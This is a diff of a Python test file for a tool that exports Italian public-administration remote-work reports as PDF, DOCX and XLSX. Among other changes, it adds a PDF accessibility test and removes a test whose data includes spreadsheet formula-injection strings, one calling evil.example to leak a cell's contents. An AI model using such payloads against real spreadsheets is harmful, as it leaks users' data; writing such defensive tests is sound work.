@@ -4,7 +4,9 @@ DOCX (python-docx) and the XLSX annex (openpyxl). The body is that of report_hel
 from __future__ import annotations
 
 import io
+import re
 import subprocess
+import zlib
 from datetime import date
 
 import pytest
@@ -52,9 +54,9 @@ def test_the_pdf_states_the_figures_the_targets_and_the_phase(report_world) -> N
     assert "3,0 giorni al mese per ogni lavoratore agile effettivo" in text
     assert "l'ente ha raggiunto la fase: sviluppo intermedio" in text
     assert "3 hanno raggiunto almeno l'avvio, 2 lo sviluppo intermedio e 1 lo sviluppo" in text
-    # Section 2: the declared figures say so, with who and when.
-    hr = report_world.users["hr_admin"].get_full_name()
-    assert f"12.500 euro (dichiarato da {hr} il" in text
+    # Section 2: the declared figures say so, and when; the HR office, not a person, declared.
+    assert "12.500 euro (dichiarato dall'Ufficio risorse umane " in text
+    assert report_world.users["hr_admin"].last_name not in text
     assert "Help desk per il lavoro agile: non dichiarato per l'anno." in text
     # Section 3: a lower-is-better indicator with its parts.
     assert "Tasso di assenza: 2,4% (5 su 205; misurato)." in text
@@ -87,6 +89,36 @@ def test_the_pdf_is_pdf_a(report_world, tmp_path) -> None:
     assert lines and all(" yes " in line for line in lines)  # every font embedded
 
 
+def pdf_objects(pdf: bytes) -> bytes:
+    """The PDF's objects as text: the file, and each compressed stream inflated (the catalog is
+    in an object stream)."""
+    parts = [pdf]
+    for match in re.finditer(rb"stream\r?\n", pdf):
+        try:
+            parts.append(zlib.decompressobj().decompress(pdf[match.end() :]))
+        except zlib.error:
+            continue
+    return b"\n".join(parts)
+
+
+def test_the_pdf_is_tagged_with_its_language(report_world, tmp_path) -> None:
+    """Published, so accessible: a structure tree a screen reader follows, in Italian."""
+    pdf = italian(report_world.a.body, "pdf")
+    objects = pdf_objects(pdf)
+    assert re.search(rb"/MarkInfo\s*<<\s*/Marked\s+true", objects)
+    assert b"/StructTreeRoot" in objects
+    assert re.search(rb"/Lang\s*\(it-IT\)", objects)
+    path = tmp_path / "piao.pdf"
+    path.write_bytes(pdf)
+    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, check=True)
+    assert "Tagged:          yes" in info.stdout.decode()
+    tree = subprocess.run(
+        ["pdfinfo", "-struct", str(path)], capture_output=True, check=True
+    ).stdout.decode()
+    for tag in ("H1", "H2", "H3", "P", "L", "LI", "Table", "TH", "TD", "Figure"):
+        assert re.search(rf"^\s*{tag}\b", tree, re.MULTILINE), tag
+
+
 def test_the_docx_has_headings_prose_the_table_and_the_charts(report_world) -> None:
     document = Document(io.BytesIO(italian(report_world.a.body, "docx")))
     headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
@@ -107,7 +139,7 @@ def test_the_docx_has_headings_prose_the_table_and_the_charts(report_world) -> N
         "sviluppo intermedio",
     ]
     assert rows["Tasso di assenza"][5:7] == ["2,4", "sviluppo avanzato"]
-    assert rows["VPN disponibile"][7].startswith("dichiarato (da ")
+    assert rows["VPN disponibile"][7].startswith("dichiarato (dall'Ufficio risorse umane ")
     assert len(document.inline_shapes) == 3  # trend of days, of workers, actual vs target
     described = [s._inline.docPr.get("descr") for s in document.inline_shapes]
     assert all(described)
@@ -133,7 +165,7 @@ def test_the_xlsx_annex_holds_every_indicator_with_its_parts(report_world) -> No
     assert (days["Actual"], days["Numerator"], days["Denominator"]) == (15, 30, 200)
     hardware = rows["ECO_HARDWARE"]
     assert hardware["Actual"] == 12500 and hardware["Source"] == "declared"
-    assert hardware["Declared by"] == report_world.users["hr_admin"].get_full_name()
+    assert hardware["Declared by"] == "HR office"
     assert hardware["Declared at"] is not None
     # The trend: one row a month; March has the agile days.
     months = list(trend.iter_rows(2, values_only=True))
@@ -213,27 +245,3 @@ def test_a_body_without_targets_has_no_phase_and_no_target_chart(world) -> None:
 def test_a_year_out_of_range_is_refused_with_the_range(year: int) -> None:
     with pytest.raises(ValueError, match="choose a year from 2000 to"):
         report.check_year(year, date(2026, 12, 2))
-
-
-def test_the_xlsx_annex_keeps_a_declarer_name_that_looks_like_a_formula_as_text(
-    report_world,
-) -> None:
-    """Who declared a figure is a person's name, written by people: it is written as text."""
-    from agilepa.indicators.models import DeclaredValue
-    from tests.factories import UserFactory
-
-    names = ['=HYPERLINK("https://evil.example/?"&A1,"Apri")', "@SUM(A1)", "+1+1", "-1+cmd"]
-    for code, name in zip(
-        ("DIG_SIGNATURE", "DIG_PROCESSES", "DIG_SERVICES", "DIG_APPS_REMOTE"), names, strict=True
-    ):
-        DeclaredValue.objects.create(
-            body=report_world.a.body,
-            code=code,
-            year=YEAR,
-            value=50,
-            entered_by=UserFactory(first_name=name, last_name=""),
-        )
-    book = load_workbook(io.BytesIO(english(report_world.a.body, "xlsx")))
-    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
-    assert {c.value for c in cells if c.data_type == "s"} >= set(names)
-    assert [c.value for c in cells if c.data_type == "f"] == []
